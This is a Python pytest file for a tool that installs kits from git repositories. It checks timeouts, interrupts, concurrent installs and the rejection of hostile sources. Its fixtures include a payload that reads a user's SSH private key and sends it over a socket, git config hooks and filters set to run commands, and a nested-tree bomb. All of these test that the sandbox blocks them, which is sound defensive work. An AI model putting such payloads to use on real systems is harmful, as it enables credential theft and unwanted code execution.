"""Kits from git as their users meet them: whole processes, a real server, and what a hostile source
gets done: nothing.
"""

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from tests.support import githttp, gitrepo
from tests.support.githttp import GitServer
from tests.support.ondisk import PATIENCE_S, interruptible, python_tool, vespe, write_kit
from vespe.calls.sandboxing import machine
from vespe.files import staging

CASES = Path(__file__).parent.parent / "cases" / "git"
Command = Callable[..., Any]


def share(root: Path, **fields: Any) -> None:
    """Make the repository `kit` in a directory that a server serves."""
    gitrepo.published(root / "kit.git", "rain", **fields)
    shutil.move(root / "kit.git/.git", root / "kit")


@pytest.fixture
def served(tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[GitServer]:
    githttp.trusted_by_git(monkeypatch)
    share(tmp_path / "served")
    with GitServer(tmp_path / "served") as server:
        yield server


def test_a_team_shares_a_kit_over_https(
    served: GitServer, project: Path, tmp_path: Path, home: Path
) -> None:
    url = served.url("kit")
    done = vespe("kit", "install", f"{url}@v1", "--activate", "--yes", cwd=project)
    assert done.returncode == 0, done.stderr
    clone = tmp_path / "clone"
    shutil.copytree(project, clone)
    staging.delete(str(home / "data"))
    staging.delete(str(home / "state"))
    assert vespe("kit", "sync", "--locked", "--yes", cwd=clone).returncode == 0
    assert vespe("tool", "run", "rain_tool", "--trust", cwd=clone).stdout.strip() == "1"


def test_p10_a_source_that_hangs_ends_the_command_with_124(
    served: GitServer, project: Path
) -> None:
    served.misbehave = lambda exchange: not served.server.stopping.wait()
    arguments = ["kit", "install", served.url("kit"), "--yes", "--json"]
    run = f"from vespe.cli import main; sys.exit(main({arguments!r}))"
    code = f"import sys; from vespe.git import session as git; git.TIMEOUT_S = 1.0; {run}"
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=project,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=PATIENCE_S,
        check=False,
    )
    assert done.returncode == 124 and json.loads(done.stdout)["error"]["code"] == "timed_out"
    assert not (project / ".vespe/kits.lock.json").exists()


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_p31_an_interrupted_fetch_leaves_no_process_and_nothing_on_disk(
    number: int, served: GitServer, project: Path, home: Path
) -> None:
    served.misbehave = lambda exchange: not served.server.stopping.wait()
    running = subprocess.Popen(
        [sys.executable, "-m", "vespe", "kit", "install", served.url("kit"), "--yes"],
        cwd=project,
        stderr=subprocess.PIPE,
        env=interruptible(),
    )
    assert served.asked.wait(PATIENCE_S)
    running.send_signal(number)
    assert running.wait(PATIENCE_S) == 128 + number and running.stderr is not None
    running.stderr.close()
    assert not any(
        served.url("kit").encode() in _command_line(pid)
        for pid in os.listdir("/proc")
        if pid.isdigit()
    )
    assert (
        list((home / "data/vespe/store").iterdir()) == []
        and not (project / ".vespe/kits.lock.json").exists()
    )


def _command_line(pid: str) -> bytes:
    try:
        return Path("/proc", pid, "cmdline").read_bytes()
    except OSError:
        return b""


STEAL = """
import os, socket
with open(os.path.expanduser("~/.ssh/id_ed25519")) as file:
    key = file.read()
with socket.create_connection(("127.0.0.1", PORT)) as sent:
    sent.sendall(b"POST / HTTP/1.1\\r\\n\\r\\n" + key.encode())
return "rain"
"""


@pytest.fixture
def stolen(home: Path) -> Iterator[socket.socket]:
    """Where what a tool steals would come to; the user has a key."""
    if machine().level == "off":
        pytest.skip("this machine has no sandbox")
    (home / ".ssh").mkdir()
    (home / ".ssh/id_ed25519").write_text("KEY", encoding="utf-8")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def test_a_kit_that_steals_a_key_gets_nothing_sends_nothing_and_is_told_of(
    tmp_path: Path, project: Path, stolen: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    githttp.trusted_by_git(monkeypatch)
    share(tmp_path / "served", body=STEAL.replace("PORT", str(stolen.getsockname()[1])).strip())
    with GitServer(tmp_path / "served") as server:
        assert (
            vespe(
                "kit", "install", f"{server.url('kit')}@v1", "--activate", "--yes", cwd=project
            ).returncode
            == 0
        )
    outcome = json.loads(vespe("tool", "run", "rain_tool", "--json", cwd=project).stdout)
    assert outcome["error"]["code"] == "permission_denied" and outcome["error"]["details"][
        "refused"
    ].endswith("/.ssh/id_ed25519")
    assert outcome["error"]["hint"].startswith(
        "first copy it with `vespe tool copy rain/rain_tool`; "
    )
    with pytest.raises(BlockingIOError):  # nobody knocked
        stolen.accept()
    assert (
        "permission_denied" in (log := vespe("log", cwd=project).stdout)
        and ".ssh/id_ed25519" in log
    )
    assert "KEY" not in log + json.dumps(outcome)


def test_an_update_that_asks_for_a_key_is_shown_and_gets_it_only_once_it_is_approved(
    command: Command, tmp_path: Path, project: Path, stolen: socket.socket
) -> None:
    source = gitrepo.published(
        tmp_path / "source",
        "rain",
        body=STEAL.replace("PORT", str(stolen.getsockname()[1])).strip(),
    )
    assert command("kit", "install", f"{source}@main", "--activate", "--yes").code == 0
    config = source / "rain/tool-rain/config.json"
    added = {"read": [".", "~/.ssh/id_ed25519"]}
    config.write_text(
        json.dumps(json.loads(config.read_text(encoding="utf-8")) | {"permissions": added}),
        encoding="utf-8",
    )
    gitrepo.commit(source)
    refused = command("kit", "update", "rain")
    assert refused.code == 6 and '"~/.ssh/id_ed25519"' in refused.err
    assert (
        command("tool", "run", "rain_tool", "--json").document["error"]["code"]
        == "permission_denied"
    )
    assert (
        command("kit", "update", "rain", "--yes").code == 0
        and command("tool", "run", "rain_tool").out.strip() == "rain"
    )
    with stolen.accept()[0] as came:
        assert came.recv(100).endswith(b"KEY")


@pytest.mark.skipif(
    shutil.which("strace") is None, reason="the calls of the system are only seen with strace"
)
def test_p8_nothing_but_git_is_started_for_a_hostile_repository(
    project: Path, tmp_path: Path
) -> None:
    source = gitrepo.published(tmp_path / "source", "rain")
    (source / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n", encoding="utf-8")
    (source / ".gitmodules").write_text(
        '[submodule "x"]\n\tpath = x\n\turl = https://localhost:1/x\n', encoding="utf-8"
    )
    (source / ".lfsconfig").write_text("[lfs]\n\turl = https://localhost:1/x\n", encoding="utf-8")
    gitrepo.commit(source)
    for key in (
        "filter.evil.smudge",
        "filter.evil.process",
        "core.fsmonitor",
        "uploadpack.packObjectsHook",
    ):
        gitrepo.git(source, "config", key, f"touch {tmp_path}/canary;")
    log = tmp_path / "calls"
    traced = [
        "strace",
        "-f",
        "-qq",
        "-e",
        "trace=execve,connect",
        "-o",
        str(log),
        sys.executable,
        "-m",
        "vespe",
        "kit",
        "install",
        str(source),
        "--yes",
    ]
    done = subprocess.run(
        traced, cwd=project, capture_output=True, text=True, encoding="utf-8", check=False
    )
    assert done.returncode == 0, done.stderr
    started = {
        os.path.basename(found)
        for found in re.findall(r'execve\("([^"]+)"[^\n]+ = 0', log.read_text(encoding="utf-8"))
    }
    assert started <= {
        os.path.basename(sys.executable),
        "git",
        "git-upload-pack",
        "sh",
        "python3",
        "python",
    }
    assert not (tmp_path / "canary").exists() and "AF_INET" not in log.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "source", json.loads((CASES / "sources.json").read_text(encoding="utf-8")), ids=ascii
)
def test_p8_no_source_does_anything(
    source: str, command: Command, project: Path, monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    if "\0" in source or source == "--help":
        pytest.skip("no process can be given it, or it is click's own")
    said = command("kit", "install", "--yes", "--", source)
    assert said.code == 6 and "Traceback" not in said.err
    assert not (project / "CANARY").exists() and not (home / "data/vespe/store").exists()


@pytest.mark.parametrize(
    "uid", json.loads((CASES / "uids.json").read_text(encoding="utf-8")), ids=ascii
)
def test_p13_no_uid_reaches_past_its_scope(
    uid: str, command: Command, project: Path, tmp_path: Path
) -> None:
    if "\0" in uid:
        pytest.skip("no process can be given it")
    python_tool(tmp_path / "project" / ".vespe" / "tool-x", "outside", "return 'outside'")
    for verb in (
        ["tool", "show", "--", uid],
        ["tool", "run", "--", uid],
        ["tool", "resolve", "--", f"project_tools/{uid}"],
    ):
        said = command(*verb)
        assert said.code in (2, 3) and "outside" not in said.out


@pytest.mark.parametrize(
    "uid", json.loads((CASES / "uids.json").read_text(encoding="utf-8")), ids=ascii
)
def test_p13_a_directory_of_a_hostile_name_is_no_tool_of_a_kit(
    uid: str, command: Command, project: Path, tmp_path: Path
) -> None:
    if "/" in uid:
        pytest.skip("it is not a name but a path")
    try:
        python_tool(write_kit(tmp_path / "kits", "rain") / uid, "rain_tool", "return 1")
    except (OSError, ValueError):
        pytest.skip("no file system takes it")
    gitrepo.commit(gitrepo.repository(tmp_path / "kits"))
    installed = command("kit", "install", str(tmp_path / "kits"), "--activate", "--yes")
    ran = command("tool", "run", "rain_tool")
    assert installed.code in (4, 6) or ran.code in (3, 4)


def test_p46_installs_activations_and_removals_at_once_lose_nothing(
    project: Path, tmp_path: Path
) -> None:
    names = [f"kit{number}" for number in range(8)]
    for name in names:
        gitrepo.published(tmp_path / name, name)
    with ThreadPoolExecutor(4) as pool:
        ended = list(
            pool.map(
                lambda name: vespe(
                    "kit", "install", str(tmp_path / name), "--activate", "--yes", cwd=project
                ),
                names,
            )
        )
    assert [done.returncode for done in ended] == [0] * 8, [done.stderr for done in ended]
    listed = json.loads(vespe("kit", "list", "--json", cwd=project).stdout)["kits"]
    assert sorted(kit["kit_id"] for kit in listed if kit["active"]) == names
    with ThreadPoolExecutor(4) as pool:
        ended = list(
            pool.map(lambda name: vespe("kit", "remove", name, "--yes", cwd=project), names[:4])
        )
    assert [done.returncode for done in ended] == [0] * 4 and vespe(
        "kit", "verify", cwd=project
    ).returncode == 0
    assert (
        sorted(json.loads((project / ".vespe/kits.lock.json").read_text(encoding="utf-8"))["kits"])
        == names[4:]
    )


def test_p10_refusing_a_tree_bomb_takes_seconds(project: Path, tmp_path: Path) -> None:
    source = gitrepo.repository(tmp_path / "source")
    rows = [("100644", f"f{n}".encode(), gitrepo.blob(source, b"x")) for n in range(10)]
    for _ in range(7):
        tree = gitrepo.raw_tree(source, rows)
        rows = [("40000", f"d{n}".encode(), tree) for n in range(10)]
    gitrepo.commit_tree(
        source,
        gitrepo.raw_tree(
            source,
            [*rows, ("100644", b"kit_config.json", gitrepo.blob(source, b'{"kit_id": "bomb"}'))],
        ),
    )
    began = time.monotonic()
    done = vespe("kit", "install", str(source), "--yes", cwd=project)
    assert done.returncode == 6 and time.monotonic() - began < 30
